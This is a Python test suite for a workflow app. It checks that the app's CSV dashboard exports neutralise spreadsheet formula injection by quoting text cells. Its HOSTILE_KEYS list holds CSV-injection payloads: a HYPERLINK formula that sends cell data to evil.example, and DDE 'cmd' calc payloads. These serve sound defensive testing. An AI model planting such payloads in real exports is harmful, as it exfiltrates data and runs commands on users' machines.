"""Class 6: every CSV the app writes is safe to open in a spreadsheet. A text cell beginning with =, +, -, @,
a tab or a carriage return gets a leading single quote (OWASP); numbers stay numbers; XES is unchanged."""
from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta, timezone
from pathlib import Path

from sqlalchemy import update

from engine.services import exports, instances, tasks
from engine.store.tables import TASK

ROOT = Path(__file__).resolve().parents[2]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_KEYS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
TABLES = ("activities", "groups", "variants", "throughput", "histogram", "trend", "flow")


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def formula_cells(text: str) -> list[str]:
    """The cells of a CSV text a spreadsheet would run as formulas."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell.startswith(FORMULA_STARTS) and not is_number(cell)]


def test_every_dashboard_csv_neutralises_formulas_in_text_cells(bank, client, sign_in, clock):
    clock.set(datetime(2026, 3, 2, 1, 0, tzinfo=timezone.utc))
    for key in HOSTILE_KEYS:
        case = instances.start(bank, "loan_review", business_key=key, user="olga")
        [capture] = tasks.list_tasks(bank, instance_id=case.id)
        clock.advance(hours=1)
        tasks.claim(bank, capture.id, "olga")
        clock.advance(hours=2)
        tasks.complete(bank, capture.id, "olga", {"amount": 25000, "score": 700, "purpose": "home"})
    late = instances.start(bank, "loan_review", business_key="=1+2", user="olga")
    [task] = tasks.list_tasks(bank, instance_id=late.id)
    with bank.database.engine.begin() as conn:  # overdue: on the SLA board and its CSV
        conn.execute(update(TASK).where(TASK.c.id == task.id).values(due_at=clock.now() - timedelta(minutes=5)))
    clock.advance(hours=1)
    sign_in("mona")
    urls = [f"/dashboard/loan_review/{table}.csv?days=30" for table in TABLES]
    urls += ["/dashboard/loan_review/slowest.csv?days=30&element=capture", "/dashboard/processes.csv",
             "/dashboard/sla.csv"]
    cells = set()
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        text = response.get_data(as_text=True)
        assert formula_cells(text) == [], url
        cells |= {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}
    # The keys are there, shown as text: the quote is the only change.
    assert {"'" + key for key in HOSTILE_KEYS} | {"'=1+2"} <= cells
    # XES keeps the standard's values as they are.
    xes = client.get("/dashboard/loan_review/log.xes?days=30").get_data(as_text=True)
    assert 'value="=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)"' in xes


def test_text_cells_are_quoted_and_numbers_stay_numbers(tmp_path):
    text = exports.csv_text(["key", "figure", "note"], [
        {"key": "-2+3", "figure": -3.5, "note": None},
        {"key": "@cmd", "figure": -7, "note": "plain"},
        {"key": "=1", "figure": 0, "note": "a - b = c"},
    ])
    assert list(csv.reader(io.StringIO(text))) == [
        ["key", "figure", "note"], ["'-2+3", "-3.5", ""], ["'@cmd", "-7", "plain"], ["'=1", "0", "a - b = c"]]


def test_every_csv_writer_of_the_app_goes_through_the_one_helper():
    """csv.writer/DictWriter appear only in engine/services/exports.py (csv_text, which neutralises)."""
    writers = [f"{path.relative_to(ROOT)}:{n}" for folder in ("engine", "webui")
               for path in (ROOT / folder).rglob("*.py")
               for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
               if re.search(r"csv\.(writer|DictWriter)\(", line)]
    assert [where.split(":")[0] for where in writers] == ["engine/services/exports.py"], writers
